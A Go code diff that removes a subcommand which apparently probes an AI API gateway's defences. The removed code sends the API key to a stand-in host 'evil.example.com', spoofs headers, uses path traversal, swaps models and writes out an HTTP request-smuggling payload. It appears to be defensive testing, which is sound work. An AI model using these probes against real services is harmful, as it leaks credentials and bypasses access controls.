@@ -5,7 +5,6 @@ package main
 
 import (
 	"bufio"
-	"bytes"
 	"context"
 	"crypto/tls"
 	"encoding/base64"
@@ -30,8 +29,6 @@ func main() {
 	switch os.Args[1] {
 	case "network":
 		network()
-	case "model":
-		model()
 	case "fetch":
 		fetch(os.Args[2:])
 	default:
@@ -213,80 +210,6 @@ func network() {
 			return "", errors.New(resp.Status)
 		}
 		return "", nil
-	})
-}
-
-// model asks the gateway for more than it is for.
-func model() {
-	base, token := os.Getenv("ANTHROPIC_BASE_URL"), os.Getenv("ANTHROPIC_API_KEY")
-	post := func(target, key, body string, header ...string) func(ctx context.Context) (string, error) {
-		return func(ctx context.Context) (string, error) {
-			req, err := http.NewRequestWithContext(ctx, http.MethodPost, target, strings.NewReader(body)) // #nosec G704 -- it goes where it wants
-			if err != nil {
-				return "", err
-			}
-			req.Header.Set("X-Api-Key", key)
-			for i := 0; i+1 < len(header); i += 2 {
-				req.Header[header[i]] = []string{header[i+1]}
-			}
-			return send(req)
-		}
-	}
-	const fits = `{"model":"claude-haiku-4-5","max_tokens":10}`
-	try("fits", post(base+"/v1/messages", token, fits))
-	try("path", post(base+"/v1/files", token, fits))
-	try("path in disguise", post(base+"/v1/messages/../files", token, fits))
-	try("method", func(ctx context.Context) (string, error) {
-		req, err := http.NewRequestWithContext(ctx, http.MethodDelete, base+"/v1/messages", nil) // #nosec G704 -- it goes where it wants
-		if err != nil {
-			return "", err
-		}
-		req.Header.Set("X-Api-Key", token)
-		return send(req)
-	})
-	try("model", post(base+"/v1/messages", token, `{"model":"claude-opus-4-5","max_tokens":10}`))
-	try("two models", post(base+"/v1/messages", token,
-		`{"model":"claude-haiku-4-5","model":"claude-opus-4-5","max_tokens":10}`))
-	try("no token", post(base+"/v1/messages", "", fits))
-	try("another's token", post(base+"/v1/messages", os.Getenv("OTHER_TOKEN"), fits))
-	proxy, _ := url.Parse(os.Getenv("HTTPS_PROXY"))
-	password, _ := proxy.User.Password()
-	try("token of the proxy", post(base+"/v1/messages", password, fits))
-	// What a repository's settings might say: the token would go to another.
-	try("base URL of the repository", post("https://evil.example.com/v1/messages", token, fits))
-	try("headers", post(base+"/v1/messages", token, fits, "X-Forwarded-Host", "evil.example.com", "Authorization",
-		"Bearer mine", "Anthropic-Organization", "mine", "Host", "evil.example.com"))
-	try("headers in a header", func(ctx context.Context) (string, error) {
-		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", strings.TrimPrefix(base, "http://"))
-		if err != nil {
-			return "", err
-		}
-		defer func() { _ = conn.Close() }()
-		// One request by its length, two by its chunks.
-		text := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + token +
-			"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
-			"0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + token + "\r\nContent-Length: 2\r\n\r\n{}"
-		if _, err := io.WriteString(conn, text); err != nil {
-			return "", err
-		}
-		answer, err := io.ReadAll(conn)
-		if !bytes.HasPrefix(answer, []byte("HTTP/1.1 200")) {
-			err = errors.Join(err, errors.New(string(answer)))
-		}
-		return string(answer), err
-	})
-	try("abort", func(ctx context.Context) (string, error) {
-		req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+"/v1/messages", strings.NewReader(`{"model":"claude-haiku-4-5","max_tokens":1000,"stream":true}`)) // #nosec G704 -- it goes where it wants
-		if err != nil {
-			return "", err
-		}
-		req.Header.Set("X-Api-Key", token)
-		resp, err := client().Do(req) // #nosec G704 -- it goes where it wants
-		if err != nil {
-			return "", err
-		}
-		line, err := bufio.NewReader(resp.Body).ReadString('\n')
-		return line, errors.Join(err, resp.Body.Close())
 	})
 }
 
